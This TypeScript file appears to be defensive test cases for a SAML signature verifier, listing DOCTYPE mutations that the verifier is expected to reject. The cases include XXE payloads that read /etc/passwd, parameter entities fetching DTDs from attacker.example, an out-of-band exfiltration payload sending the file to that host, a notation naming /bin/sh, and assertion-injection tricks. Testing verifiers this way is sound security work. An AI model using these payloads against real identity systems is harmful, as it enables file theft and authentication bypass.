import { assertionTextOf, bareEvilAssertionOf, promote, replace } from '../../../src/core/mutations/attacks/edit.ts'
import type { Attack } from './attack.ts'
import { idOf } from './edit-signature.ts'
import { known } from './known.ts'

/** Puts a document type declaration right before the root. */
const declare = (xml: string, doctype: string) => replace(xml, '<samlp:Response', `${doctype}<samlp:Response`)

/** As `declare`, and lets the NameID be the entity. */
const withEntity = (xml: string, entity: string, doctype: string) =>
  declare(replace(xml, /(?<=NameID[^>]*>)[^<]*/, `&${entity};`), doctype)

const DOCUMENT_TYPES: Omit<Attack, 'class' | 'expectFail'>[] = [
  {
    name: 'harmless',
    base: 'entra/both',
    what: 'A document type declaration without content.',
    mutate: (xml) => declare(xml, '<!DOCTYPE samlp:Response>'),
  },
  known('doctype-entity-in-name-id', {
    name: 'entity-in-name-id',
    base: 'salesforce/both',
  }),
  {
    name: 'file-entity',
    base: 'node-samlp/base-sp-redirect',
    what: 'The NameID is an external entity, a file of the verifier.',
    mutate: (xml) => withEntity(xml, 'file', '<!DOCTYPE r [<!ENTITY file SYSTEM "file:///etc/passwd">]>'),
  },
  {
    name: 'parameter-entity',
    base: 'simplesamlphp/base-sp-redirect',
    what: 'A parameter entity fetches more declarations from the attacker.',
    mutate: (xml) => declare(xml, '<!DOCTYPE r [<!ENTITY % more SYSTEM "http://attacker.example/x.dtd"> %more;]>'),
  },
  {
    name: 'external-subset',
    base: 'entra/usual',
    what: 'The document type is a file of the attacker.',
    mutate: (xml) => declare(xml, '<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd">'),
  },
  known('doctype-billion-laughs', {
    name: 'billion-laughs',
    base: 'salesforce/usual',
  }),
  {
    name: 'id-attribute-declared',
    base: 'node-samlp/base-idp-initiated',
    what: 'The declaration makes another attribute the ID, and gives it a default value.',
    mutate: (xml) => declare(promote(xml), '<!DOCTYPE r [<!ATTLIST samlp:Status Name ID "_423b80fa">]>'),
  },
  {
    name: 'behind-comment',
    base: 'simplesamlphp/base-idp-initiated',
    what: 'The declaration stands behind a comment and an instruction that hold quotes and angle brackets.',
    mutate: (xml) => declare(xml, `<!-- <a b='"> --><?p <!-- ?><!DOCTYPE r [<!ENTITY user "x">]>`),
  },
  {
    name: 'default-id',
    base: 'simplesamlphp/sign-assertion-sp-redirect',
    what: 'The declaration gives every NameID the ID of the genuine assertion, where only some parsers see it.',
    policy: 'assertion',
    mutate: (xml) => declare(xml, `<!DOCTYPE r [<!ATTLIST saml:NameID ID ID "${idOf(assertionTextOf(xml))}">]>`),
  },
  known('doctype-default-namespace', {
    name: 'default-namespace',
    base: 'entra/assertion',
    policy: 'assertion',
  }),
  {
    name: 'default-transform',
    base: 'salesforce/both',
    what: 'The declaration gives a Transform an algorithm that the message does not show.',
    mutate: (xml) =>
      declare(
        replace(xml, / Algorithm="[^"]*enveloped-signature"/, ''),
        '<!DOCTYPE r [<!ATTLIST ds:Transform Algorithm CDATA "http://www.w3.org/TR/1999/REC-xslt-19991116">]>',
      ),
  },
  {
    name: 'entity-in-attribute',
    base: 'node-samlp/base-sp-redirect',
    what: 'The Destination is an entity, which stands for this tenant here and for another elsewhere.',
    mutate: (xml) =>
      declare(
        replace(xml, / Destination="[^"]*"/, ' Destination="&acs;"'),
        `<!DOCTYPE r [<!ENTITY acs "${/ Destination="([^"]*)"/.exec(xml)?.[1]}">]>`,
      ),
  },
  {
    name: 'entity-that-is-an-assertion',
    base: 'simplesamlphp/base-sp-redirect',
    what: 'An entity holds an evil assertion, which is no element until it is expanded.',
    mutate: (xml) =>
      declare(
        replace(xml, /(?=<saml:Assertion )/, '&evil;'),
        `<!DOCTYPE r [<!ENTITY evil "${bareEvilAssertionOf(xml).replaceAll('"', "'")}">]>`,
      ),
  },
  {
    name: 'entity-that-redefines-a-built-in-one',
    base: 'salesforce/usual',
    what: 'The declaration redefines the entity lt.',
    mutate: (xml) => declare(xml, '<!DOCTYPE r [<!ENTITY lt "&#38;#60;saml:NameID>admin@example.com">]>'),
  },
  {
    name: 'parameter-entity-in-the-internal-subset',
    base: 'entra/both',
    what: 'A parameter entity declares the entity in the NameID.',
    mutate: (xml) => withEntity(xml, 'user', `<!DOCTYPE r [<!ENTITY % p '<!ENTITY user "x">'> %p;]>`),
  },
  {
    name: 'file-sent-to-the-attacker',
    base: 'simplesamlphp/base-sp-post',
    what: 'Parameter entities read a file of the verifier and put it into a URL of the attacker.',
    mutate: (xml) =>
      declare(
        xml,
        `<!DOCTYPE r [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % all "<!ENTITY &#37; send SYSTEM 'http://attacker.example/?%file;'>"> %all; %send;]>`,
      ),
  },
  {
    name: 'public-identifier',
    base: 'node-samlp/base-sp-post',
    what: 'The document type has a public identifier, which a catalogue may resolve.',
    mutate: (xml) =>
      declare(xml, '<!DOCTYPE r PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://attacker.example/x.dtd">'),
  },
  {
    name: 'notation',
    base: 'salesforce/unsolicited',
    what: 'An unparsed entity names a program as its notation.',
    mutate: (xml) =>
      declare(
        xml,
        '<!DOCTYPE r [<!NOTATION n SYSTEM "file:///bin/sh"><!ENTITY e SYSTEM "file:///etc/passwd" NDATA n>]>',
      ),
  },
  {
    name: 'after-xml-declaration',
    base: 'entra/usual',
    what: 'The declaration follows an XML declaration that asks for external ones.',
    mutate: (xml) =>
      `<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n${declare(xml, '<!DOCTYPE r SYSTEM "x.dtd">')}`,
  },
  known('doctype-inside-the-root', {
    name: 'inside-the-root',
    base: 'simplesamlphp/user-bob-sp-redirect',
  }),
]

/** Document types, harmless or not: SAML has none. */
export const DOCTYPE: Attack[] = DOCUMENT_TYPES.map((attack) => ({
  ...attack,
  class: 'doctype',
  expectFail: ['xml-has-no-doctype'],
}))
